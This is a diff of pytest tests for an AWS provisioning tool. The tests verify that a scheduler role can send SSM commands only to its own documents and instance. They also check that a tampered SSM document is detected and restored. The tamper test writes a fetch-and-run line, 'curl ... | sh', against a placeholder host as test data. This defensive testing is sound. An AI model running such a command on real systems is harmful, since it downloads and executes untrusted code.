@@ -187,3 +187,59 @@ def test_the_evaluator_follows_aws_rules() -> None:
     with pytest.raises(NotImplementedError):
         decide([{"Statement": [{**tls["Statement"][0], "Condition": {"IpAddress": {"aws:SourceIp": "1.2.3.4"}}}]}],
                get)
+
+
+# --------------------------------------------------------------------------- what the functions may send
+
+
+def test_the_functions_send_only_the_stack_documents_to_only_its_instance(run: Runner) -> None:
+    assert run("up", "--yes").code == 0
+    iam = boto3.client("iam")
+    role = "simpletrader-scheduler"
+    policies = [iam.get_role_policy(RoleName=role, PolicyName=name)["PolicyDocument"]
+                for name in iam.list_role_policies(RoleName=role)["PolicyNames"]]
+    assert iam.list_attached_role_policies(RoleName=role)["AttachedPolicies"] == []
+    instance = _outputs(run)["instance_id"]
+    here = f"arn:aws:ssm:ap-south-1:{ACCOUNT}"
+
+    def may_send(document_arn: str, instance_id: str = instance) -> bool:
+        """SendCommand is authorized on the document and on each target instance."""
+        on = [document_arn, f"arn:aws:ec2:ap-south-1:{ACCOUNT}:instance/{instance_id}"]
+        return all(decide(policies, Request("ssm:SendCommand", arn)) == ALLOW for arn in on)
+
+    for other in ("AWS-RunShellScript", "AWS-RunPowerShellScript", "AWS-RunRemoteScript", "AWS-StartSSHSession"):
+        assert not may_send(f"arn:aws:ssm:ap-south-1::document/{other}"), other
+    assert may_send(f"{here}:document/simpletrader-sync")
+    assert may_send(f"{here}:document/simpletrader-eod")
+    assert not may_send(f"{here}:document/someone-elses-document")
+    assert not may_send(f"{here}:document/simpletrader-sync", "i-0fedcba9876543210")  # another instance
+
+    # The documents hold the fixed command lines; a sender sets only the deadline.
+    ssm = boto3.client("ssm")
+    for name, command in (("simpletrader-sync", "simpletrader-workspace sync"),
+                          ("simpletrader-eod", "simpletrader-workspace eod")):
+        doc = ssm.describe_document(Name=name)["Document"]
+        assert doc["DocumentType"] == "Command"
+        content = json.loads(ssm.get_document(Name=name)["Content"])
+        assert list(content["parameters"]) == ["executionTimeout"]
+        steps = content["mainSteps"]
+        assert [(s["action"], s["inputs"]["runCommand"]) for s in steps] == [("aws:runShellScript", [command])]
+        tags = {t["Key"]: t["Value"] for t in ssm.list_tags_for_resource(
+            ResourceType="Document", ResourceId=name)["TagList"]}
+        assert tags["Stack"] == "simpletrader" and tags["ManagedBy"] == "simpletrader-provision"
+
+
+def test_a_document_changed_by_hand_is_put_back(run: Runner) -> None:
+    assert run("up", "--yes").code == 0
+    ssm = boto3.client("ssm")
+    tampered = json.loads(ssm.get_document(Name="simpletrader-sync")["Content"])
+    tampered["mainSteps"][0]["inputs"]["runCommand"] = ["curl -s http://example.invalid/x | sh"]
+    version = ssm.update_document(Name="simpletrader-sync", Content=json.dumps(tampered),
+                                  DocumentVersion="$LATEST")["DocumentDescription"]["DocumentVersion"]
+    ssm.update_document_default_version(Name="simpletrader-sync", DocumentVersion=version)
+    plan = run("plan", "--detailed-exitcode")
+    assert plan.code == 2 and "~ document.sync (simpletrader-sync)" in plan.out, plan.out
+    assert run("up", "--yes").code == 0
+    content = json.loads(ssm.get_document(Name="simpletrader-sync")["Content"])  # the default version
+    assert content["mainSteps"][0]["inputs"]["runCommand"] == ["simpletrader-workspace sync"]
+    assert run("plan", "--detailed-exitcode").code == 0
